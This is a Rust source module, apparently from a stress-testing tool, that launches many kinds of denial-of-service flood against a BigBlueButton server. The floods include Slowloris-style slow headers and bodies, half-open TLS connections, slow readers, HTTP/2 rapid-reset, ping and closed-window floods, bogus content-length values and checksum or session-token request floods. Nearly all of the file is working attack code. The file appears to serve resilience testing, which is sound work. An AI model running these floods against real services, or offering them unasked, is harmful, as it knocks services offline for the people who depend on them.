//! The attackers at work: each flood has its places, and each place has one connection at a time.

use std::{
    cell::RefCell,
    io,
    rc::Rc,
    thread,
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt},
    sync::oneshot,
    task::{JoinSet, LocalSet},
    time::{sleep, timeout},
};

use super::{
    attacker::Attacker,
    flood::{Achieved, Achievements, Flood},
};
use crate::{
    h2::{self, Asked},
    load::{stop::Stop, tally::Fault, wire::Wire},
};

/// Good people's own work comes first on the processor that they share with the attackers.
const NICE: i32 = 10;
/// Who gets no answer by then has none.
const PATIENCE: Duration = Duration::from_secs(20);
/// Nobody can see that a connection is closed who does not read: so long is each held.
const UNREAD: Duration = Duration::from_secs(60);
/// What a body says that never comes.
const BODY: &str = "100000";
const FORM: &str = "application/x-www-form-urlencoded";
/// More than any body has, and as much as two counters of 64 bits can say.
const LENGTHS: [u64; 2] = [i64::MAX as u64, u64::MAX];

/// Attackers on a thread of their own, until a moment.
pub(super) struct Attack(oneshot::Receiver<Achievements>);

impl Attack {
    /// Lets them begin.
    ///
    /// # Errors
    /// When there is no thread for them.
    pub(super) fn start(attacker: Attacker, strength: f64, end: Instant, stop: Stop) -> io::Result<Self> {
        let (tell, told) = oneshot::channel();
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
        thread::Builder::new().name("attackers".into()).spawn(move || {
            // Of this thread alone. Where it is not granted the figures are a little worse.
            let _ = rustix::process::nice(NICE);
            let achieved = LocalSet::new().block_on(&runtime, attack(attacker, strength, end, stop));
            // Whoever does not listen any more has been interrupted.
            let _ = tell.send(achieved);
        })?;
        Ok(Self(told))
    }

    /// What they have achieved, once they have ended.
    ///
    /// # Errors
    /// When their thread has died.
    pub(super) async fn ended(self) -> io::Result<Achievements> {
        self.0.await.map_err(|_| io::Error::other("the attackers have died"))
    }
}

async fn attack(attacker: Attacker, strength: f64, end: Instant, stop: Stop) -> Achievements {
    let attacker = Rc::new(attacker);
    let (mut running, mut all) = (JoinSet::new(), Vec::new());
    for flood in Flood::ALL {
        let achieved = Rc::new(RefCell::new(Achieved::default()));
        let places = flood.places_of(strength);
        for nth in 0..places {
            let place = Place { flood, attacker: Rc::clone(&attacker), achieved: Rc::clone(&achieved) };
            running.spawn_local(async move {
                // Not all at the same moment.
                sleep(flood.pause() * nth / places).await;
                place.hold(nth).await;
            });
        }
        all.push((flood, achieved));
    }
    tokio::select! {
        () = tokio::time::sleep_until(end.into()) => {}
        () = stop.told() => {}
    }
    running.shutdown().await;
    all.into_iter().map(|(flood, achieved)| (flood, achieved.take())).collect()
}

/// One of those who take part in a flood.
struct Place {
    flood: Flood,
    attacker: Rc<Attacker>,
    achieved: Rc<RefCell<Achieved>>,
}

/// A connection that counts as held for as long as this lives.
struct Held<'a>(&'a RefCell<Achieved>);

impl Drop for Held<'_> {
    fn drop(&mut self) {
        self.0.borrow_mut().leave();
    }
}

impl Place {
    /// Attacks until somebody ends it: after each connection that has ended comes the next.
    async fn hold(&self, nth: u32) {
        for round in 0_u64.. {
            let opened = self.achieved.borrow().opened;
            let outcome = self.once(round + u64::from(nth)).await;
            self.ended(outcome.is_err() && self.achieved.borrow().opened == opened);
            sleep(self.flood.pause()).await;
        }
    }

    fn ended(&self, is_refused: bool) {
        let mut achieved = self.achieved.borrow_mut();
        match is_refused {
            true => achieved.refused += 1,
            false => achieved.closed += 1,
        }
    }

    /// One connection, until it is closed.
    async fn once(&self, round: u64) -> io::Result<()> {
        match self.flood {
            Flood::Idle => self.idle().await,
            Flood::HalfOpen => self.half_open().await,
            Flood::SlowHeads => self.drip(&self.head("GET", "/", ""), b"x-a: b\r\n").await,
            Flood::SlowBodies => {
                let fields = format!("content-type: {FORM}\r\ncontent-length: {BODY}\r\n\r\n");
                self.drip(&self.head("POST", "/bigbluebutton/api/create", &fields), b"a").await
            }
            Flood::SlowReaders => self.unread().await,
            Flood::OneByteStreams => self.one_byte_streams().await,
            Flood::ClosedWindows => self.closed_windows().await,
            Flood::Resets => self.resets().await,
            Flood::Pings => self.pings().await,
            Flood::UnknownHosts => self.unknown_host(round).await,
            Flood::Lengths => self.length(LENGTHS[(round % 2) as usize]).await,
            Flood::Joins => self.calls(|_| self.get(&self.attacker.link)).await,
            Flood::Checksums => {
                let path = |n: u64| format!("/bigbluebutton/api/getMeetings?x={n}&checksum={:040x}", n * 7);
                self.calls(|n| self.get(&path(n))).await
            }
            Flood::UnknownSessions => {
                let path = |n: u64| format!("/bigbluebutton/api/stuns?sessionToken=x{round:07}{n:08}");
                self.calls(|n| self.get(&path(n))).await
            }
        }
    }

    fn opened(&self) -> Held<'_> {
        self.achieved.borrow_mut().open();
        Held(&self.achieved)
    }

    fn sent(&self, n: u32) {
        self.achieved.borrow_mut().sent += u64::from(n);
    }

    /// The head of a request, as far as it is to come at once.
    fn head(&self, method: &str, path: &str, fields: &str) -> Vec<u8> {
        let host = &self.attacker.target.host;
        format!("{method} {path} HTTP/1.1\r\nhost: {host}\r\nuser-agent: siege\r\n{fields}").into_bytes()
    }

    fn get(&self, path: &str) -> Vec<u8> {
        self.head("GET", path, "\r\n")
    }

    async fn idle(&self) -> io::Result<()> {
        let mut tcp = self.attacker.tcp().await?;
        let _held = self.opened();
        until_closed(&mut tcp).await;
        Ok(())
    }

    async fn half_open(&self) -> io::Result<()> {
        let mut tcp = self.attacker.tcp().await?;
        let _held = self.opened();
        let hello = &self.attacker.hello;
        tcp.write_all(&hello[..hello.len() / 2]).await?;
        self.sent(1);
        until_closed(&mut tcp).await;
        Ok(())
    }

    /// Sends a beginning, and then a little at a time.
    async fn drip(&self, beginning: &[u8], drop: &[u8]) -> io::Result<()> {
        let mut tls = self.attacker.http1().await?;
        let _held = self.opened();
        write(&mut tls, beginning).await?;
        let (mut read, mut written) = tokio::io::split(tls);
        let dripping = async {
            while write(&mut written, drop).await.is_ok() {
                self.sent(1);
                sleep(self.flood.pause()).await;
            }
        };
        tokio::select! {
            () = dripping => {}
            () = until_closed(&mut read) => {}
        }
        Ok(())
    }

    /// Asks for more than fits on the way, and reads nothing of it.
    async fn unread(&self) -> io::Result<()> {
        let mut tls = self.attacker.http1_narrow().await?;
        let _held = self.opened();
        let cookies = format!("cookie: {}\r\n\r\n", self.attacker.joined.cookies);
        let request = self.head("GET", &self.attacker.big, &cookies);
        for _ in 0..self.flood.burst() {
            write(&mut tls, &request).await?;
            self.sent(1);
        }
        sleep(UNREAD).await;
        Ok(())
    }

    /// Opens an HTTP/2 connection with some first frames.
    async fn http2(&self, settings: &[u8]) -> io::Result<(impl AsyncRead + AsyncWrite + Unpin + use<>, Held<'_>)> {
        let mut tls = self.attacker.http2().await?;
        let held = self.opened();
        write(&mut tls, &[h2::PREFACE, settings].concat()).await?;
        Ok((tls, held))
    }

    async fn one_byte_streams(&self) -> io::Result<()> {
        let (mut tls, _held) = self.http2(&h2::settings()).await?;
        let asked = Asked {
            method: "POST",
            path: "/bigbluebutton/api/create",
            fields: &[("content-type", FORM), ("content-length", BODY)],
            has_body: true,
            authority: &self.attacker.target.host,
        };
        for stream in streams().take(self.flood.burst() as usize) {
            write(&mut tls, &[h2::headers(stream, &asked), h2::data(stream, b"a")].concat()).await?;
            self.sent(1);
        }
        until_closed(&mut tls).await;
        Ok(())
    }

    async fn closed_windows(&self) -> io::Result<()> {
        let (mut tls, _held) = self.http2(&h2::closed_window()).await?;
        let fields = [("cookie", &*self.attacker.joined.cookies)];
        let asked = Asked { path: &self.attacker.big, fields: &fields, ..self.asked() };
        for stream in streams().take(self.flood.burst() as usize) {
            write(&mut tls, &h2::headers(stream, &asked)).await?;
            self.sent(1);
        }
        until_closed(&mut tls).await;
        Ok(())
    }

    async fn resets(&self) -> io::Result<()> {
        let (tls, _held) = self.http2(&h2::settings()).await?;
        let asked = self.asked();
        let mut streams = streams();
        self.bursts(tls, || match streams.next() {
            Some(stream) => [h2::headers(stream, &asked), h2::reset(stream, h2::CANCEL)].concat(),
            None => Vec::new(),
        })
        .await;
        Ok(())
    }

    async fn pings(&self) -> io::Result<()> {
        let (tls, _held) = self.http2(&h2::settings()).await?;
        self.bursts(tls, || [h2::ping(), h2::settings()].concat()).await;
        Ok(())
    }

    fn asked(&self) -> Asked<'_> {
        Asked {
            method: "GET",
            path: "/bigbluebutton/api",
            fields: &[],
            has_body: false,
            authority: &self.attacker.target.host,
        }
    }

    /// Sends burst after burst until the connection is closed. What comes is read, so that it is not what holds the sender back.
    async fn bursts(&self, stream: impl AsyncRead + AsyncWrite + Unpin, mut next: impl FnMut() -> Vec<u8>) {
        let (mut read, mut written) = tokio::io::split(stream);
        let sending = async {
            loop {
                let burst: Vec<u8> = (0..self.flood.burst()).flat_map(|_| next()).collect();
                if burst.is_empty() || write(&mut written, &burst).await.is_err() {
                    return;
                }
                self.sent(self.flood.burst());
                sleep(self.flood.pause()).await;
            }
        };
        tokio::select! {
            () = sending => {}
            () = until_closed(&mut read) => {}
        }
    }

    /// A handshake for a host that there is not, or a request for one on a connection for another.
    async fn unknown_host(&self, round: u64) -> io::Result<()> {
        self.sent(1);
        if round.is_multiple_of(2) {
            let mut tls = self.attacker.to_stranger().await?;
            let _held = self.opened();
            until_closed(&mut tls).await;
            return Ok(());
        }
        let mut wire = self.attacker.wire().await?;
        let _held = self.opened();
        let request = format!("GET / HTTP/1.1\r\nhost: {}\r\n\r\n", self.attacker.stranger);
        self.ask(&mut wire, request.as_bytes()).await;
        Ok(())
    }

    async fn length(&self, length: u64) -> io::Result<()> {
        let mut wire = self.attacker.wire().await?;
        let _held = self.opened();
        let fields = format!("content-type: {FORM}\r\ncontent-length: {length}\r\n\r\na=b");
        self.sent(1);
        self.ask(&mut wire, &self.head("POST", "/bigbluebutton/api/create?checksum=0", &fields)).await;
        Ok(())
    }

    /// One request after the other, for as long as the connection lasts.
    async fn calls(&self, request: impl Fn(u64) -> Vec<u8>) -> io::Result<()> {
        let mut wire = self.attacker.wire().await?;
        let _held = self.opened();
        for n in 0.. {
            self.sent(1);
            if !self.ask(&mut wire, &request(n)).await {
                break;
            }
            sleep(self.flood.pause()).await;
        }
        Ok(())
    }

    /// Asks once. Returns whether it was answered.
    async fn ask(&self, wire: &mut Wire, request: &[u8]) -> bool {
        let answer = match timeout(PATIENCE, wire.exchange(request)).await {
            Ok(Ok(reply)) => Ok(reply.status),
            Ok(Err(_)) => Err(Fault::Broken),
            Err(_) => Err(Fault::Unanswered),
        };
        self.achieved.borrow_mut().answer(answer);
        answer.is_ok()
    }
}

/// The numbers of a client's streams.
fn streams() -> impl Iterator<Item = u32> {
    (1..i32::MAX as u32).step_by(2)
}

async fn write(stream: &mut (impl AsyncWrite + Unpin), bytes: &[u8]) -> io::Result<()> {
    stream.write_all(bytes).await?;
    stream.flush().await
}

/// Reads and forgets until the other side closes.
async fn until_closed(stream: &mut (impl AsyncRead + Unpin)) {
    let mut bytes = [0; 4096];
    while matches!(stream.read(&mut bytes).await, Ok(1..)) {}
}
